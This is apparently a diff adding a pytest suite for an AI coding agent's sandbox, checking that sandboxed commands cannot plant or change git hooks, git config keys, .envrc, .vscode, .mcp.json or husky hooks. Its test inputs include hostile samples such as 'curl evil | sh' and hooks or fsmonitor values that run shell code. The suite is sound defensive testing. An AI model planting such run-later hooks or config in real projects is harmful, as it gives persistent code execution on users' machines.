@@ -1,0 +1,198 @@
+"""What runs later as the user (git hooks and config, direnv's .envrc, the editor's
+.vscode, .devcontainer, .mcp.json, .agent-shell), against the real bubblewrap: a
+sandboxed command (which auto mode runs unasked) can neither change what exists, at
+any depth, nor leave behind what did not exist; and ``git commit`` still works."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from shell.permissions.policy import RUNS_LATER as POLICY_LIST
+from shell.permissions.runslater import RUNS_LATER, unsafe_git_keys
+from shell.permissions.sandbox import Sandbox
+from shell.tools.shell_cmd import run_command
+
+from ..sandboxing import require_sandbox
+
+pytestmark = pytest.mark.anyio
+
+GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@example.org", "GIT_CONFIG_NOSYSTEM": "1"}
+
+
+@pytest.fixture
+def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    """A workspace outside /tmp (the sandbox's /tmp is private), the shell's data dir
+    (where the quarantine goes) beside it."""
+    base = Path(tempfile.mkdtemp(prefix=".agent-shell-test-later-", dir=Path.home()))
+    (base / "project").mkdir()
+    monkeypatch.setenv("AGENT_SHELL_DATA_DIR", str(base / "data"))
+    monkeypatch.setenv("HOME", str(base))
+    for name, value in GIT_ENV.items():
+        monkeypatch.setenv(name, value)
+    try:
+        yield base / "project"
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def git(cwd: Path, *args: str) -> str:
+    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True,
+                          env={**os.environ, **GIT_ENV}).stdout
+
+
+async def sh(ws: Path, command: str) -> Any:
+    box = Sandbox(ws)
+    return await run_command(command, box.workspace, 30, lambda _: None, sandbox=box)
+
+
+def quarantined(ws: Path) -> list[str]:
+    root = ws.parent / "data" / "quarantine"
+    return sorted(p.relative_to(next(root.iterdir())).as_posix() for p in root.rglob("*") if p.is_file()) \
+        if root.exists() else []
+
+
+def test_the_sandbox_and_the_file_tools_guard_one_list() -> None:
+    assert POLICY_LIST is RUNS_LATER
+    assert set(RUNS_LATER) >= {".git", ".mcp.json", ".agent-shell", ".envrc", ".vscode", ".devcontainer"}
+
+
+async def test_what_did_not_exist_is_moved_out_and_reported(ws: Path) -> None:
+    require_sandbox()
+    (ws / "sub").mkdir()
+    result = await sh(ws, "echo 'curl evil | sh' > .envrc; mkdir -p .vscode .devcontainer sub/.vscode; "
+                          "echo '{\"tasks\": []}' > .vscode/tasks.json; "
+                          "echo '{}' > .devcontainer/devcontainer.json; "
+                          "echo '{\"mcpServers\": {\"x\": {\"command\": \"sh\"}}}' > .mcp.json; "
+                          "echo '{}' > sub/.vscode/settings.json; echo fine > notes.txt")
+    for planted in (".envrc", ".vscode", ".devcontainer", ".mcp.json", "sub/.vscode"):
+        assert not (ws / planted).exists() and not (ws / planted).is_symlink(), planted
+        assert planted in result.text
+    assert (ws / "notes.txt").read_text() == "fine\n"  # the rest of the command's work stays
+    assert quarantined(ws) == [".devcontainer/devcontainer.json", ".envrc", ".mcp.json", ".vscode/tasks.json",
+                               "sub/.vscode/settings.json"]
+    assert "to keep it: mv " in result.text and "outside the sandbox" in result.text
+    assert sorted(result.details["quarantined"]) == sorted(str(ws / p) for p in (
+        ".envrc", ".vscode", ".devcontainer", ".mcp.json", "sub/.vscode"))
+    # the quarantine is the shell's data dir: the next command cannot see it to put it back
+    again = await sh(ws, f"ls -A {ws.parent / 'data'} | wc -l")
+    assert again.text.startswith("0"), again.text
+
+
+async def test_what_exists_is_read_only_at_any_depth_and_cannot_be_swapped(ws: Path) -> None:
+    require_sandbox()
+    git(ws, "init", "-q")
+    (ws / "lib").mkdir()
+    git(ws / "lib", "init", "-q")  # a nested repository
+    (ws / ".envrc").write_text("export A=1\n")
+    (ws / ".vscode").mkdir()
+    (ws / ".vscode" / "settings.json").write_text("{}\n")
+    config, nested = (ws / ".git" / "config").read_text(), (ws / "lib" / ".git" / "config").read_text()
+    result = await sh(
+        ws,
+        "echo 'echo owned' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; "
+        "echo 'echo owned' > lib/.git/hooks/post-checkout; git -C lib config core.fsmonitor evil; "
+        "echo 'curl evil' >> .envrc; echo '{\"evil\": 1}' > .vscode/settings.json; "
+        "mv .git .git-old; mv lib/.git lib/.git-old; mv .vscode .vscode-old; rm -f .envrc; echo done",
+    )
+    assert "done" in result.text
+    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
+    assert not (ws / "lib" / ".git" / "hooks" / "post-checkout").exists()
+    assert (ws / ".git" / "config").read_text() == config
+    assert (ws / "lib" / ".git" / "config").read_text() == nested
+    assert (ws / ".envrc").read_text() == "export A=1\n"
+    assert (ws / ".vscode" / "settings.json").read_text() == "{}\n"
+    for gone in (".git-old", "lib/.git-old", ".vscode-old"):
+        assert not (ws / gone).exists(), gone
+    assert result.details["quarantined"] == []
+
+
+async def test_git_commit_still_works_in_the_sandbox(ws: Path) -> None:
+    require_sandbox()
+    git(ws, "init", "-q")
+    (ws / "a.txt").write_text("one\n")
+    result = await sh(ws, "git add a.txt && git commit -q -m first && echo two > a.txt && "
+                          "git commit -qam second && git log --format=%s")
+    assert not result.is_error, result.text
+    assert git(ws, "log", "--format=%s").split() == ["second", "first"]
+    assert result.details["quarantined"] == []
+    refused = await sh(ws, "git config user.name someone-else")
+    assert refused.is_error and "read-only in the sandbox" in refused.text
+
+
+async def test_a_missing_hooks_folder_or_a_commondir_cannot_be_planted(ws: Path) -> None:
+    require_sandbox()
+    git(ws, "init", "-q")
+    shutil.rmtree(ws / ".git" / "hooks")
+    result = await sh(ws, "mkdir .git/hooks && printf '#!/bin/sh\\necho owned\\n' > .git/hooks/pre-commit "
+                          "&& chmod +x .git/hooks/pre-commit; mkdir -p evil; echo ../evil > .git/commondir")
+    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
+    assert not (ws / ".git" / "commondir").exists()
+    assert ".git/hooks/pre-commit" in result.text and ".git/commondir" in result.text
+    git(ws, "status")  # the repository still works
+
+
+async def test_a_new_repository_is_kept_and_a_hostile_one_loses_what_would_run(ws: Path) -> None:
+    require_sandbox()
+    result = await sh(ws, "git init -q fresh && cd fresh && echo x > f && git add f && git commit -qm one")
+    assert not result.is_error, result.text
+    assert (ws / "fresh" / ".git" / "config").exists()
+    assert any(p.name.endswith(".sample") for p in (ws / "fresh" / ".git" / "hooks").iterdir())
+    assert result.details["quarantined"] == []
+    hostile = await sh(ws, "git init -q evil && git -C evil config core.fsmonitor 'sh -c owned' && "
+                           "printf '#!/bin/sh\\necho owned\\n' > evil/.git/hooks/post-checkout && "
+                           "git init -q fresh2 && git -C fresh2 config alias.st '!sh -c owned'")
+    assert not (ws / "evil" / ".git" / "config").exists()
+    assert not (ws / "evil" / ".git" / "hooks" / "post-checkout").exists()
+    assert (ws / "evil" / ".git" / "HEAD").exists()  # the repository itself stays
+    assert not (ws / "fresh2" / ".git" / "config").exists()
+    assert "core.fsmonitor" in hostile.text and "alias.st" in hostile.text
+
+
+async def test_a_hooks_path_in_the_workspace_is_a_wall_too(ws: Path) -> None:
+    """husky: core.hooksPath = .husky, a folder in the working tree git runs as the hooks."""
+    require_sandbox()
+    git(ws, "init", "-q")
+    (ws / ".husky").mkdir()
+    (ws / ".husky" / "pre-commit").write_text("npm test\n")
+    git(ws, "config", "core.hooksPath", ".husky")
+    await sh(ws, "echo 'curl evil | sh' > .husky/pre-commit; echo x > .husky/post-checkout; true")
+    assert (ws / ".husky" / "pre-commit").read_text() == "npm test\n"
+    assert not (ws / ".husky" / "post-checkout").exists()
+
+
+async def test_submodule_git_dirs_are_walls(ws: Path) -> None:
+    require_sandbox()
+    git(ws, "init", "-q")
+    module = ws / ".git" / "modules" / "vendor" / "lib"
+    module.mkdir(parents=True)
+    git(module, "init", "-q", "--bare")
+    before = (module / "config").read_text()
+    await sh(ws, "echo '[core] fsmonitor = evil' >> .git/modules/vendor/lib/config; "
+                 "echo owned > .git/modules/vendor/lib/hooks/post-checkout; true")
+    assert (module / "config").read_text() == before
+    assert not (module / "hooks" / "post-checkout").exists()
+
+
+def test_a_git_config_runs_nothing_only_with_the_keys_git_itself_writes(tmp_path: Path) -> None:
+    config = tmp_path / "config"
+    config.write_text('[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n'
+                      "\turl = https://example.org/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
+                      '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n')
+    assert unsafe_git_keys(config) == []
+    for hostile, key in [("[core]\n\tfsmonitor = sh -c x\n", "core.fsmonitor"),
+                         ("[core]\n\thooksPath = /x\n", "core.hookspath"),
+                         ("[include]\n\tpath = ../evil\n", "include.path"),
+                         ('[filter "lfs"]\n\tsmudge = sh -c x\n', "filter.*.smudge"),
+                         ("[submodule \"a\"]\n\tupdate = !sh -c x\n", "submodule.*.update"),
+                         ("[core] fsmonitor = x\n", "core.fsmonitor")]:
+        config.write_text(hostile)
+        assert key in unsafe_git_keys(config), hostile
